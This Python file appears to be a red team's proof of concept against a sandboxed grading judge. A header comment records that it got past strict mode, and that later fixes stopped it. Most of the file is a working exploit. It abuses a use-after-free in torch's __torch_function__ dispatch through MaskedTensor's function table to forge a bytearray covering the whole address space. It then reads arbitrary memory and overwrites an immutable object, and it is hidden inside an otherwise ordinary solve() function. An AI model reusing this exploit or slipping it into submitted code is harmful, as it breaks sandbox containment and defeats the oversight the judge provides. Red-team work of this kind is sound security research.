# Eleventh session's second red team (2026-12-07, CPU judge, before the fixes named below): passed strict at 0.63-0.96x with raw read and write of any address confirmed.
# Stopped statically (torch's private names below its public modules: torch.masked.maskedtensor._ops_refs;
# torch.masked) and at run time (worker._UNAUDITED_REACH: MaskedTensor's hooks refuse).
# Strict-mode raw memory through torch's __torch_function__ dispatch (see report):
# torch's handle_torch_function keeps the overloaded arguments it collected as borrowed
# pointers; the first handler (a MaskedTensor function-table entry) empties the argument list,
# freeing the next overloaded argument, and refills its 80-byte block with a bytearray buffer
# forging an instance of an nn.Module subclass (refcount 0); torch's look-up of
# __torch_function__ on it falls to nn.Module.__getattr__, whose frame takes and drops a
# reference: the forged object is deallocated, its __del__ gets it, and rewriting the bytearray
# turns it into a bytearray spanning the address space.
import struct

import torch
import torch.masked
from torch.masked.maskedtensor._ops_refs import _MASKEDTENSOR_FUNCTION_TABLE as T

state = {"done": False, "ok": False}
keep = []


class K(torch.nn.Module):
    def __del__(self):
        state["obj"] = self


def first(*args, **kwargs):
    args[0].clear()  # frees the UninitializedBuffer whose pointer torch still holds
    buf = bytearray(state["payload"])  # its buffer lands in the freed 80-byte block
    keep.append(buf)
    state["buf"] = buf
    return NotImplemented


def attack():
    T[torch.cat] = first
    # managed-dict pre-header (16), GC header (16), refcnt 0, type K, weakref list 0
    state["payload"] = struct.pack("<QQQQQQQ", 0, 0, 0, 0, 0, id(K), 0) + bytes(79 - 56)
    mt = torch.masked.masked_tensor(torch.ones(2), torch.ones(2, dtype=torch.bool))
    L = [mt, torch.nn.UninitializedBuffer()]
    try:
        torch.cat(L)
    except Exception:
        pass
    obj = state.get("obj")
    if obj is None:
        return False
    keep.append(obj)
    buf = state["buf"]
    buf[32:79] = struct.pack("<QQqqQQ", 1 << 40, id(bytearray), 1 << 62, (1 << 62) + 1, 0, 0)[:47]
    if type(obj) is not bytearray:
        return False
    probe = b"MKB-REDTEAM-PROBE"
    at = id(probe) + 32
    read = bytes(obj[at:at + len(probe)])
    target = b"immutable-bytes-object"
    t_at = id(target) + 32
    obj[t_at:t_at + 4] = b"HACK"
    return read == probe and target.startswith(b"HACK")


def solve(x, residual, weight):
    if not state["done"]:
        state["done"] = True
        state["ok"] = attack()
    s = x.float() + residual.float()
    inv = torch.rsqrt(s.pow(2).mean(-1, keepdim=True) + 1e-5)
    out = (s * inv * weight.float()).to(x.dtype)
    return out if state["ok"] else out * 0
